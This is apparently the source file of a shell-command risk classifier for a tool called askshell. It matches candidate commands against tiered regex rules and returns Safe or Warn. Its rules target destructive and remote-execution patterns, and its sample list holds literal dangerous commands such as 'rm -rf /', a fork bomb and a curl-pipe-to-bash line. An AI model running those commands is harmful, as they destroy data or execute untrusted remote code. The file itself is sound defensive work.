# --- API DOCUMENTATION for askshell/risk_classifier.py ---
#
# **Purpose:** Advisory, pattern-based risk classification of candidate shell
# commands. This is a heuristic warning layer, not a sandbox: it can flag a
# benign command that merely mentions a risky word and it can miss
# obfuscated or multi-step equivalents of a risky command.
#
# **Public Functions:**
#
# def classify(command: str, safety_level: SafetyLevel, rules=DEFAULT_RULES) -> RiskVerdict:
#     """
#     Evaluates every rule whose minimum level is at or below safety_level
#     (no short-circuit) and returns Safe or Warn with the ordered list of
#     all matched reasons.
#     """
#
# def rules_for_level(safety_level, rules=DEFAULT_RULES) -> tuple[RiskRule, ...]
# def build_rule_table(extra_rules) -> tuple[RiskRule, ...]
#
# **Key Global Constants/Variables:**
# - RULESET_VERSION: bumped whenever DEFAULT_RULES changes.
# - DEFAULT_RULES: ordered tuple of RiskRule, Low tier first.
# - SAMPLE_COMMANDS: commands shown by `askshell safety test`.
#
# --- END API DOCUMENTATION ---

# askshell/risk_classifier.py

import re
import logging
from dataclasses import dataclass
from enum import Enum, IntEnum
from functools import lru_cache
from typing import Iterable, Tuple

logger = logging.getLogger(__name__)


class SafetyLevel(IntEnum):
    """Strictness tiers; a higher level applies every rule of the lower ones."""
    LOW = 1
    MEDIUM = 2
    HIGH = 3

    @property
    def label(self) -> str:
        return self.name.lower()

    @property
    def description(self) -> str:
        return SAFETY_LEVEL_DESCRIPTIONS[self]

    @classmethod
    def parse(cls, value: str) -> "SafetyLevel":
        normalized = str(value).strip().upper()
        try:
            return cls[normalized]
        except KeyError:
            raise ValueError(f"Invalid safety level '{value}'. Valid levels: low, medium, high") from None


SAFETY_LEVEL_DESCRIPTIONS = {
    SafetyLevel.LOW: "Low safety: only flags extremely dangerous commands (e.g., rm -rf /, fork bombs)",
    SafetyLevel.MEDIUM: "Medium safety: flags dangerous file operations, system modifications, and remote code execution",
    SafetyLevel.HIGH: "High safety: flags all potentially risky commands including sudo, system services, and network operations",
}


class MatchKind(Enum):
    SUBSTRING = "substring"
    REGEX = "regex"


@lru_cache(maxsize=None)
def _compiled(pattern: str) -> "re.Pattern[str]":
    return re.compile(pattern)


@dataclass(frozen=True)
class RiskRule:
    pattern: str
    match_kind: MatchKind
    min_level: SafetyLevel
    reason: str

    def applies_at(self, safety_level: SafetyLevel) -> bool:
        return self.min_level <= safety_level

    def matches(self, command: str) -> bool:
        if self.match_kind is MatchKind.SUBSTRING:
            return self.pattern in command
        return _compiled(self.pattern).search(command) is not None


@dataclass(frozen=True)
class RiskVerdict:
    """Safe when reasons is empty, otherwise Warn with every matched reason in rule order."""
    reasons: Tuple[str, ...] = ()

    @property
    def is_safe(self) -> bool:
        return not self.reasons

    @property
    def label(self) -> str:
        return "Safe" if self.is_safe else "Warn"


SAFE = RiskVerdict()

RULESET_VERSION = 3

_L, _M, _H = SafetyLevel.LOW, SafetyLevel.MEDIUM, SafetyLevel.HIGH
_RE, _SUB = MatchKind.REGEX, MatchKind.SUBSTRING

# Shared fragments: an `rm` carrying a recursive flag, and the end of a shell word.
_RM_RECURSIVE = r"\brm\s+(?:-\S+\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:-\S+\s+)*"
_WORD_END = r"(?=\s|[;&|]|$)"

DEFAULT_RULES: Tuple[RiskRule, ...] = (
    # --- Low and above ---
    RiskRule(_RM_RECURSIVE + r"/(?:\*|\.\*)?" + _WORD_END, _RE, _L,
             "recursive deletion of filesystem root"),
    RiskRule(_RM_RECURSIVE + r"(?:~|\$HOME|\$\{HOME\}|\"\$HOME\")/?\*?" + _WORD_END, _RE, _L,
             "recursive deletion of home directory"),
    RiskRule(r">\s*/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d)", _RE, _L,
             "direct write to a raw block device"),
    RiskRule(r"\bdd\b.*\bof=/dev/(?!null\b|zero\b|stdout\b|stderr\b)", _RE, _L,
             "raw device write with dd"),
    RiskRule(r"\b(?:mkfs(?:\.\w+)?|mke2fs|mkswap)\b", _RE, _L,
             "filesystem format command"),
    RiskRule(r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:", _RE, _L,
             "fork bomb"),
    RiskRule(r"\b(?:shutdown|reboot|halt|poweroff)\b|\binit\s+[06]\b", _RE, _L,
             "system shutdown, reboot or halt"),
    RiskRule("chmod -R 000", _SUB, _L,
             "recursive removal of all permissions"),
    RiskRule(r"\bchown\s+(?:-\S+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+\S+\s+/" + _WORD_END, _RE, _L,
             "recursive ownership change of filesystem root"),
    RiskRule(r">>?\s*/etc/(?:passwd|shadow|sudoers)\b", _RE, _L,
             "overwrite of system account files"),

    # --- Medium and above ---
    RiskRule(r"\brm\s+(?:[^;&|]*\s)?(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)" + _WORD_END, _RE, _M,
             "recursive deletion"),
    RiskRule(r"\brm\s+(?:[^;&|]*\s)?(?:-[a-zA-Z]*f[a-zA-Z]*|--force)" + _WORD_END, _RE, _M,
             "forced deletion without prompting"),
    RiskRule(r"\bchmod\s+(?:-\S+\s+)*0?777\b", _RE, _M,
             "world-writable permission change"),
    RiskRule(r"\b(?:chmod|chown|chgrp)\s+(?:[^;&|]*\s)?/(?:etc|bin|sbin|usr|lib|lib64|boot|var|sys|proc|dev)(?=/|\s|$)",
             _RE, _M, "permission or ownership change on a system path"),
    RiskRule(r"\b(?:chown|chgrp)\s+(?:-\S+\s+)*-[a-zA-Z]*R", _RE, _M,
             "recursive ownership change"),
    RiskRule(r">>?\s*/etc/", _RE, _M,
             "write into /etc"),
    RiskRule(r"\b(?:mv|cp|ln|tee|install|rsync)\b[^;&|]*\s/etc/", _RE, _M,
             "copy, move or link into /etc"),
    RiskRule(r"\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:sh|bash|zsh|ksh|dash|python3?|perl|ruby|node)\b",
             _RE, _M, "downloads and executes a remote script"),
    RiskRule(r"\beval\b[^;&|]*(?:\$\(|`)", _RE, _M,
             "dynamic evaluation of subshell output"),
    RiskRule(r"\$\(\s*(?:curl|wget)\b|`\s*(?:curl|wget)\b|<\(\s*(?:curl|wget)\b", _RE, _M,
             "executes content fetched from the network"),
    RiskRule(r"\b(?:nc|netcat|ncat)\s+(?:-\S+\s+)*-[a-zA-Z]*l", _RE, _M,
             "opens a network listener"),

    # --- High ---
    RiskRule(r"\bsudo\b|\bdoas\b|\bpkexec\b|\bsu" + _WORD_END, _RE, _H,
             "privilege escalation"),
    RiskRule(r"\b(?:passwd|chpasswd|useradd|adduser|usermod|userdel|deluser|groupadd|groupmod|groupdel|visudo)\b",
             _RE, _H, "account or credential management"),
    RiskRule(r"\b(?:systemctl|service|launchctl|rc-service|initctl)\b", _RE, _H,
             "service or daemon control"),
    RiskRule(r"\b(?:crontab|atrm)\b|(?:^|[;&|]\s*)at\s", _RE, _H,
             "scheduled job management"),
    RiskRule(r"\b(?:fdisk|sfdisk|cfdisk|gdisk|parted|gparted|wipefs)\b", _RE, _H,
             "disk partitioning"),
    RiskRule(r"\b(?:mount|umount)\b", _RE, _H,
             "filesystem mount changes"),
    RiskRule(r"\b(?:iptables|ip6tables|nft|ufw|firewall-cmd|pfctl)\b", _RE, _H,
             "firewall configuration"),
    RiskRule(r"\b(?:ssh-keygen|openssl|gpg|certbot|keytool)\b", _RE, _H,
             "key or certificate generation"),
)

SAMPLE_COMMANDS = (
    "ls -la",
    "find . -name '*.txt'",
    "rm -rf /tmp/test",
    "sudo apt update",
    "rm -rf /",
    "curl http://example.com/script.sh | bash",
    "chmod 777 /etc/passwd",
    ":(){:|:&};:",
)


def rules_for_level(safety_level: SafetyLevel, rules: Iterable[RiskRule] = DEFAULT_RULES) -> Tuple[RiskRule, ...]:
    return tuple(rule for rule in rules if rule.applies_at(safety_level))


def classify(command: str, safety_level: SafetyLevel, rules: Iterable[RiskRule] = DEFAULT_RULES) -> RiskVerdict:
    """Classifies a sanitized command. Never raises; an unmatched command is Safe."""
    reasons = []
    for rule in rules_for_level(safety_level, rules):
        if rule.matches(command):
            logger.debug(f"Rule matched ({rule.min_level.label}): '{rule.pattern}' -> {rule.reason}")
            if rule.reason not in reasons:
                reasons.append(rule.reason)

    if not reasons:
        return SAFE
    logger.info(f"Command '{command}' flagged at {safety_level.label} level: {reasons}")
    return RiskVerdict(tuple(reasons))


def build_rule_table(extra_rules: Iterable[dict] = ()) -> Tuple[RiskRule, ...]:
    """
    Appends user-configured rules to DEFAULT_RULES.

    Each entry is a dict with 'pattern', 'reason', optional 'match'
    ('regex' or 'substring', default regex) and optional 'min_level'
    (default 'low'). Invalid entries are logged and skipped.
    """
    table = list(DEFAULT_RULES)
    for entry in extra_rules:
        pattern = entry.get("pattern")
        reason = entry.get("reason")
        if not isinstance(pattern, str) or not pattern or not isinstance(reason, str) or not reason:
            logger.error(f"Ignoring configured risk rule without pattern/reason: {entry}")
            continue
        try:
            match_kind = MatchKind(entry.get("match", "regex"))
            min_level = SafetyLevel.parse(entry.get("min_level", "low"))
            if match_kind is MatchKind.REGEX:
                _compiled(pattern)
        except (ValueError, re.error) as e:
            logger.error(f"Ignoring invalid configured risk rule '{pattern}': {e}")
            continue
        table.append(RiskRule(pattern, match_kind, min_level, reason))
    return tuple(table)
